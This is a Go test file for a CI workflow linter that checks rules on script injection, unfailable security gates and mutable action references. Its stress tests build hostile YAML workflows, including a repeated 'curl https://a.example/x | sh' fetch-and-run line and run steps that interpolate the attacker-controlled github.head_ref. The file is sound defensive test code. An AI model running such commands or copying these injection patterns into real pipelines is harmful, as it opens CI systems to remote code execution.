package ci

import (
	"flag"
	"os"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"

	"plimsoll/internal/advisory"
	"plimsoll/internal/hygiene"
)

func raised(t *testing.T, source string) []hygiene.Finding {
	t.Helper()
	w, err := Read("w.yml", []byte(source))
	if err != nil {
		t.Fatalf("%v in\n%s", err, source)
	}
	return Check(w, Rules())
}

func TestRules(t *testing.T) {
	seen := map[string]bool{}
	wellFormed := regexp.MustCompile(`^[a-z]+(-[a-z]+)*$`)
	for _, r := range Rules() {
		t.Run(r.ID, func(t *testing.T) {
			if seen[r.ID] || !wellFormed.MatchString(r.ID) {
				t.Error("the identifier is not unique or not well formed")
			}
			seen[r.ID] = true
			if r.Title == "" || r.Why == "" || r.Remedy == "" || r.Source == "" || r.Severity == advisory.Unknown || len(r.Bad) == 0 || len(r.Good) == 0 {
				t.Error("a field is empty")
			}
			is := func(f hygiene.Finding) bool { return f.Rule == r.ID }
			for _, s := range r.Bad {
				if !slices.ContainsFunc(raised(t, s), is) {
					t.Errorf("not raised by\n%s", s)
				}
			}
			for _, s := range r.Good {
				if found := raised(t, s); slices.ContainsFunc(found, is) {
					t.Errorf("raised by\n%s%v", s, found)
				}
			}
		})
	}
}

func TestFindingsHaveTheirPlace(t *testing.T) {
	for _, c := range []struct {
		name, source, rule string
		line, column       int
	}{
		{"a literal block", sample("    - name: é\n      run: |\n        echo a\n        true && plimsoll gate app:1 || true\n"), "gate-cannot-fail", 10, 17},
		{"an expression in a block", sample("    - run: |\n        echo a\n        echo ${{ github.head_ref }}\n"), "script-injection", 9, 14},
		{"a plain scalar", sample("    - run: echo ${{ github.head_ref }}\n"), "script-injection", 7, 17},
		{"a folded block has one place", sample("    - run: >\n        plimsoll gate app:1\n        || true\n"), "gate-cannot-fail", 7, 12},
		{"an action", sample("    - uses: a/b@v1\n"), "action-mutable", 7, 13},
	} {
		t.Run(c.name, func(t *testing.T) {
			for _, f := range raised(t, c.source) {
				if f.Rule == c.rule {
					if f.Range.Start.Line != c.line || f.Range.Start.Column != c.column {
						t.Errorf("at %d:%d, want %d:%d", f.Range.Start.Line, f.Range.Start.Column, c.line, c.column)
					}
					return
				}
			}
			t.Errorf("%s not raised by\n%s", c.rule, c.source)
		})
	}
}

func TestIdentifiersSurviveMovedLines(t *testing.T) {
	source := sample("    - uses: a/b@v1\n    - uses: a/b@v1\n")
	before, after := raised(t, source), raised(t, "# one line more\n"+source)
	if len(before) != 2 || before[0].ID == before[1].ID {
		t.Fatalf("want two findings with identifiers of their own, have %v", before)
	}
	for i := range before {
		if before[i].ID != after[i].ID {
			t.Errorf("%s became %s", before[i].ID, after[i].ID)
		}
	}
}

var update = flag.Bool("update", false, "write docs/ci.md's rules")

// docs/ci.md describes the rules in the words that reports use.
func TestEveryRuleIsDocumented(t *testing.T) {
	const file, begin, end = "../../docs/ci.md", "<!-- rules: go test ./internal/ci -update -->\n", "<!-- end -->\n"
	page, err := os.ReadFile(file)
	if err != nil {
		t.Fatal(err)
	}
	before, rest, ok := strings.Cut(string(page), begin)
	_, after, ok2 := strings.Cut(rest, end)
	if !ok || !ok2 {
		t.Fatalf("%s has no place for the rules", file)
	}
	var rules strings.Builder
	if err := WriteRules(&rules); err != nil {
		t.Fatal(err)
	}
	want := before + begin + rules.String() + end + after
	if *update {
		if err := os.WriteFile(file, []byte(want), 0o644); err != nil {
			t.Fatal(err)
		}
	} else if want != string(page) {
		t.Errorf("%s is out of date: run the test with -update", file)
	}
}

// What is hostile ends in time, and with an error where it is beyond the bounds.
func TestHostileWorkflowsAreBounded(t *testing.T) {
	for name, source := range map[string]string{
		"many scanners":                sample("    - run: |\n" + strings.Repeat("        grype a --fail-on high || true\n", 7000)),
		"many expressions":             sample("    - run: |\n" + strings.Repeat("        echo ${{ github.head_ref }}\n", 20000)),
		"an open expression":           sample("    - run: |\n" + strings.Repeat("        echo ${{ '\n", 40000)),
		"a script behind aliases":      "on: push\njobs:\n  a:\n    steps:\n    - &s\n      run: |\n" + strings.Repeat("        curl https://a.example/x | sh\n", 5000) + "  b:\n    steps: [" + strings.Repeat("*s, ", 4000) + "*s]\n",
		"many steps":                   sample(strings.Repeat("    - run: a\n", 50000)),
		"deep nesting":                 "jobs: " + strings.Repeat("[", 5000),
		"an expression of parentheses": sample("    - if: ${{ " + strings.Repeat("(", 100000) + " }}\n      run: plimsoll gate a\n"),
	} {
		t.Run(name, func(t *testing.T) {
			began := time.Now()
			if w, err := Read("w.yml", []byte(source)); err == nil {
				Check(w, Rules())
			}
			if took := time.Since(began); took > 20*time.Second {
				t.Errorf("took %s", took)
			}
		})
	}
}

func FuzzRead(f *testing.F) {
	for _, r := range Rules() {
		for _, s := range slices.Concat(r.Bad, r.Good) {
			f.Add([]byte(s))
		}
	}
	f.Add([]byte("jobs: &a\n  b: *a\n"))
	f.Add([]byte("jobs:\n  a:\n    steps: &s\n    - &x\n      run: ${{ ''}} }}\n    - *x\n  b:\n    steps: *s\n"))
	f.Fuzz(func(t *testing.T, source []byte) {
		w, err := Read("w.yml", source)
		if err != nil {
			return
		}
		for _, found := range Check(w, Rules()) {
			if found.Range.Start.Line < 1 || found.Range.Start.Column < 1 || found.ID == "" {
				t.Errorf("%s stands nowhere: %+v", found.Rule, found.Range)
			}
		}
	})
}
